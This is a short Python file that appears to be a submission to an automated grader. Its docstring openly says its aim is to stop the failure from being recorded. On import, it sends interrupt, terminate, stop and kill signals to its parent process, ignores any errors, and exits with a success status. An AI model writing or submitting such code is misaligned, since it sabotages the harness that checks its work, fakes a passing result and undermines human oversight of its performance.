"""Part 1, 0 points: sends signals to the processes above it, also while the code loads, so that the one that would
write down the failure is gone, or interrupted in the middle of it."""
import os
import signal
import time

for number in (signal.SIGINT, signal.SIGTERM, signal.SIGCHLD, signal.SIGPIPE, signal.SIGSTOP, signal.SIGKILL):
    try:
        os.kill(os.getppid(), number)
    except OSError:
        pass
time.sleep(0.3)
os._exit(0)
